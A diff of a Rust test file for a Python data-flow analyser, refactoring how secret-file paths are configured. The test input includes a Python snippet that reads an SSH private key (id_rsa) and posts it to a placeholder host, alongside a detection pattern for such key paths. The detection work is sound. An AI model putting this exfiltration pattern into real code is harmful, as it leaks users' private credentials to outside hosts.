@@ -1,12 +1,12 @@
 //! Name resolution, folding and decoding, checked on small sources.
 
-use ferret_python::{analyze, FactKind, FileRole, FlowConfig, Glob, Options};
+use ferret_python::{analyze, FactKind, FileRole, FlowConfig, Glob, Options, SecretPaths};
 
 fn flows() -> FlowConfig {
     FlowConfig {
         calls: vec![(Glob::new("base64.*decode"), ferret_python::flow::DECODED)],
         names: vec![(Glob::new("os.environ"), ferret_python::flow::ENV)],
-        secret_paths: Some(regex::RegexSet::new([r"\.ssh/id_"]).unwrap()),
+        secret_paths: SecretPaths::new(vec![r"\.ssh/id_".to_string()]),
         ..FlowConfig::default()
     }
 }
@@ -116,7 +116,7 @@ fn flows_reach_sinks() {
     assert_ne!(post.2 & ferret_python::flow::SECRET, 0, "{c:?}");
     // A path named in pieces, each shorter than any secret path: the arguments are asked
     // together (a length bound per piece would skip them).
-    assert_eq!(flows().secret_min_len(), 8);
+    assert_eq!(flows().secret_paths.min_len(), 8);
     let src = "import os, requests\ndef f(home):\n    d = open(os.path.join(home, '.ssh', 'id_rsa')).read()\n    requests.post('http://x', data=d)\n";
     let c = calls(src);
     let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
